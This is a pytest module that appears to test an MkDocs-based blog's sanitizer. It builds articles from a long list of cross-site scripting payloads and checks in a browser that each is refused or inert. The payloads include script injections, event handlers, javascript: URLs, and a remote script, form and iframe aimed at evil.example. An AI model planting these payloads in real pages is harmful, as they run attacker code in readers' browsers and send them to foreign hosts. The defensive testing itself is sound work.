"""Whatever an author writes, either the check refuses it or nothing in the built page runs, styles or loads from afar.

Each payload is an article of its own. Which of the two happens is not asserted: that is the check's and the renderer's
business. That one of them does is what readers rest on.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from engblog.disk.docs import DocsSettings, read_site
from playwright.sync_api import Dialog, Page

from browser.documents import INLINE, is_import_map, is_speculation_rules
from browser.stress import NOW, ROOT, png
from browser.visits import Visitor
from tools.pages import BuiltSite, PagesServer

EVIL = "<script>alert(1)</script>"

# What must be allowed, so that the others are not refused for another reason.
HARMLESS = {
    "plain": "Text.",
    "code span": f"Text with `{EVIL}`.",
    "fence": f"```html\n{EVIL}\n```",
    "details": "<details><summary>More</summary>Text.</details>",
}
PAYLOADS = {
    "script": EVIL,
    "script in a sentence": f"A {EVIL} b.",
    "escaped script": f"A \\{EVIL} b.",
    "script with a source": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script over lines": "<script\n>alert(1)</script\n>",
    "unclosed script": "A <script>alert(1)",
    "script after a comment": f"<!-- a -->{EVIL}",
    "script in a short comment": f"<!-->{EVIL}-->",
    "script in a bogus comment": f"<!--->{EVIL}<!-- -->",
    "script in a link's text": f"[{EVIL}](index.md)",
    "script after an unclosed backtick": f"A ` {EVIL}",
    "script between escaped backticks": f"A \\`{EVIL}\\`",
    "script between unlike backticks": f"A ``{EVIL}` b",
    "script after an indented fence": f"Text.\n\n- a\n\n        ```\n{EVIL}\n\n        ```\n",
    "script in a fence that a paragraph began": f"Text\n     ```\n{EVIL}\n     ```",
    "script between fences of two kinds": f"```\n~~~\n```\n{EVIL}\n\n~~~\ntext\n~~~\n",
    "script in a list": f"- a\n\n    {EVIL}\n",
    "script in a quotation": f"> {EVIL}",
    "script in a table": f"| a | b |\n|---|---|\n| {EVIL} | c |\n",
    "script in a heading": f"## A {EVIL}",
    "script in a footnote": f"A[^1].\n\n[^1]: {EVIL}\n",
    "script in a definition": f"Term\n:   {EVIL}\n",
    "script in an abbreviation": f'HTML.\n\n*[HTML]: ">{EVIL}\n',
    "script in a remark's title": f'!!! note "{EVIL}"\n    Text.\n',
    "script in a folded remark's title": f'??? note "{EVIL}"\n    Text.\n',
    "script in a tab's title": f'=== "{EVIL}"\n    Text.\n',
    "script in a code's title": f'```python title="{EVIL}"\nx\n```\n',
    "script in a caption": f'![a](dot.png "{EVIL}")',
    "script in an alternative": f"![{EVIL}](dot.png)",
    "script in a key": f'Press ++"{EVIL}"++.',
    "script in a claim": f"A {{claim:{EVIL}}}.",
    "script in a number": f"A {{lab:{EVIL}}}.",
    "script that is included": '--8<-- "evil.md"',
    "script that is included in a block": "--8<--\nevil.md\n--8<--\n",
    "handler": "<img src=x onerror=alert(1)>",
    "escaped handler": "\\<img src=x onerror=alert(1)>",
    "handler without blanks": "<img/src=x/onerror=alert(1)>",
    "handler without an end": "<img src=x onerror=alert(1)//",
    "handler in a block": '<div onclick="alert(1)" markdown>\nText.\n</div>',
    "handler over lines": '<div\nonclick="alert(1)">Text.</div>',
    "handler after a quoted sign": '<p title=">" onclick="alert(1)">Text.</p>',
    "handler of details": "<details open ontoggle=alert(1)>x</details>",
    "handler of an unknown element": "<x onclick=alert(1)>a</x>",
    "handler in an attribute list": 'Text.\n{: onclick="alert(1)" }',
    "handler in a heading's list": "## A heading {: onmouseover=alert(1) }",
    "handler in a link's list": '[x](index.md){: onclick="alert(1)" }',
    "handler in a picture's list": '![a](dot.png){: onerror="alert(1)" }',
    "handler in a fence's list": '``` { .python onclick="alert(1)" }\nx\n```',
    "handler in inline code's list": '`x`{: onclick="alert(1)" }',
    "style attribute": '<p style="position:fixed">Text.</p>',
    "style in an attribute list": 'Text.\n{: style="position:fixed" }',
    "style element": "<style>*{display:none}</style>",
    "drawing": "<svg/onload=alert(1)>",
    "drawing with a script": f"<svg>{EVIL}</svg>",
    "script address": "[x](javascript:alert(1))",
    "script address in brackets": "[x](<javascript:alert(1)>)",
    "script address in other letters": "[x](JaVaScRiPt:alert(1))",
    "script address with a reference": "[x](&#106;avascript:alert(1))",
    "script address with a named reference": "[x](javascript&colon;alert(1))",
    "script address with a tab": "[x](<java\tscript:alert(1)>)",
    "script address in a definition": "[x][r]\n\n[r]: javascript:alert(1)\n",
    "script address by itself": "<javascript:alert(1)>",
    "script address in an element": '<a href="javascript:alert(1)">x</a>',
    "script address in an element with a reference": '<a href="&#106;avascript:alert(1)">x</a>',
    "script address with a newline": '<a href="java&#10;script:alert(1)">x</a>',
    "script address in an attribute list": '[x](index.md){: href="javascript:alert(1)" }',
    "script address of a picture's list": '![x](dot.png){: src="https://evil.example/x.png" }',
    "data address": f"[x](data:text/html,{EVIL})",
    "other script address": "[x](vbscript:x)",
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x"></object>',
    "form": '<form action="https://evil.example/"><button>x</button></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "mathematics": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "remote picture": "![a](https://evil.example/x.png)",
    "remote picture by reference": "![a][r]\n\n[r]: https://evil.example/x.png\n",
    "remote picture without a scheme": "![a](//evil.example/x.png)",
    "remote picture as an element": '<img alt="a" src="https://evil.example/x.png">',
    "remote picture in a set": '<img alt="a" src="dot.png" srcset="https://evil.example/x.png 2x">',
    "remote sound": '<audio src="//evil.example/x.mp3"></audio>',
    "remote style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
}

"""The one script that stands in every page."""

_POLICY = "Content-Security-Policy"
_LOADED = ("src", "srcset", "poster", "data", "background")
_ACTIVE = frozenset({"style", "iframe", "object", "embed", "base", "form", "math"})

# The elements as a browser understands them, which is not always as a parser in a library does.
_ELEMENTS = """
() => [...document.querySelectorAll("*")].map((each) => [
  each.localName,
  Object.fromEntries([...each.attributes].map((attribute) => [attribute.name, attribute.value])),
  each.localName === "script" ? each.textContent : "",
])
"""


def acts(tag: str, attributes: dict[str, str], text: str = "") -> bool:
    """Whether an element runs, styles, or loads something from another host."""
    for name, value in attributes.items():
        address = re.sub(r"[\x00-\x20]", "", value).lower()
        if name == "style" or name.startswith("on") or address.startswith(("javascript:", "vbscript:", "data:text")):
            return True
        if name in _LOADED and "//" in address:
            return True
    if tag == "script":
        is_data = is_import_map(attributes, text) or is_speculation_rules(attributes, text)
        own = "assets/js/" in attributes.get("src", "") or text == INLINE or is_data
        return not own and attributes.get("type") != "application/ld+json"
    if tag == "link":
        return attributes.get("rel") == "stylesheet" and "assets/css/" not in attributes.get("href", "")
    return tag in _ACTIVE or (tag == "meta" and attributes.get("http-equiv", _POLICY) != _POLICY)


def _article(number: int, body: str) -> str:
    meta = {
        "title": f"Payload {number}",
        "description": "What the article shows, from the failure to the mechanism behind it, and what to do on Monday.",
        "date": "2026-11-20",
        "category": "Safety",
        "tags": ["One", "Two", "Three"],
    }
    return f"---\n{yaml.safe_dump(meta, sort_keys=False, width=1000)}---\n\nThe first paragraph.\n\n{body}\n"


@pytest.fixture(scope="package")
def outcome(tmp_path_factory: pytest.TempPathFactory, visitor: Visitor) -> dict[str, list[str] | None]:
    """What acts in the page of each payload, dialogs included; None where the check refused it."""
    folder = tmp_path_factory.mktemp("payloads")
    docs = folder / "docs"
    docs.mkdir()
    vocabulary = {"categories": [{"name": "Safety"}], "tags": [{"name": name} for name in ("One", "Two", "Three")]}
    (docs / "taxonomy.yml").write_text(yaml.safe_dump(vocabulary))
    (docs / "index.md").write_text("---\ntitle: Home\ndescription: A site of payloads.\n---\n")
    slugs = {}
    for number, (name, body) in enumerate({**HARMLESS, **PAYLOADS}.items()):
        slugs[name] = f"payload-{number}"
        article = docs / "articles" / slugs[name]
        article.mkdir(parents=True)
        (article / "index.md").write_text(_article(number, body), encoding="utf-8")
        for file, data in (("evil.md", f"Text.\n\n{EVIL}\n".encode()), ("dot.png", png(16, 16))):
            if file in body:
                (article / file).write_bytes(data)
    refused = set()
    for problem in read_site(docs, DocsSettings()).problems:
        found = re.search(r"articles/(payload-\d+)/", problem.mark.path)
        assert found, problem
        refused.add(found[1])
    for slug in refused:
        shutil.rmtree(docs / "articles" / slug)
    # What the check of the sources lets through, that of the rendered pages may still refuse.
    said = _build(folder)
    for slug in set(re.findall(r"articles/(payload-\d+)/index\.md:\d+:\d+ R007", said)):
        refused.add(slug)
        shutil.rmtree(docs / "articles" / slug)
    said = _build(folder) if said else ""
    assert not said, said
    # The security policy is left out: it must not be what saves the reader.
    with PagesServer(BuiltSite(folder / "site")) as server, visitor.window(bypass_csp=True) as window:
        addresses = {page.split("/")[-2]: page for page in server.site.kinds["article"]}
        return {
            name: None if slug in refused else _what_acts(window, server.url(addresses[slug]))
            for name, slug in slugs.items()
        }


def _what_acts(window: Page, url: str) -> list[str]:
    found: list[str] = []

    def asked(dialog: Dialog) -> None:
        found.append(f"dialog {dialog.message}")
        dialog.dismiss()

    window.on("dialog", asked)
    window.goto(url)
    elements = window.evaluate(_ELEMENTS)
    found += [f"<{tag} {attributes}>{text}" for tag, attributes, text in elements if acts(tag, attributes, text)]
    window.remove_listener("dialog", asked)
    return found


def _build(folder: Path) -> str:
    """Build the site below *folder*; what was said if that failed."""
    config = {
        "INHERIT": str(ROOT / "mkdocs.yml"),
        "site_url": "https://example.org/",
        "docs_dir": str(folder / "docs"),
        "watch": [],
        "theme": {"custom_dir": str(ROOT / "overrides")},
    }
    (folder / "mkdocs.yml").write_text(yaml.safe_dump(config))
    quiet = {"NO_MKDOCS_2_WARNING": "1", "DISABLE_MKDOCS_2_WARNING": "true", "SOURCE_DATE_EPOCH": NOW}
    # Not strict, and what the last check of the built pages would refuse is let through: the browser is the judge here.
    judged = {"ENGBLOG_ALLOW": "links, other-hosts, inline-code"}
    command = [sys.executable, "-m", "mkdocs", "build"]
    environment = os.environ | quiet | judged
    run = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False)
    return f"the build failed:\n{run.stdout}{run.stderr}" if run.returncode else ""


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_payload_is_refused_or_does_nothing(name: str, outcome: dict[str, list[str] | None]) -> None:
    assert not outcome[name]


@pytest.mark.parametrize(
    ("tag", "attributes"),
    [
        ("script", {}),
        ("p", {"onclick": "x"}),
        ("p", {"style": "x"}),
        ("a", {"href": " java\nscript:x"}),
        ("img", {"src": "//evil.example/x.png"}),
        ("iframe", {}),
        ("meta", {"http-equiv": "refresh"}),
        ("link", {"rel": "stylesheet", "href": "x.css"}),
    ],
)
def test_what_acts_is_seen(tag: str, attributes: dict[str, str]) -> None:
    assert acts(tag, attributes)


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_harmless_is_built(name: str, outcome: dict[str, list[str] | None]) -> None:
    assert outcome[name] == []
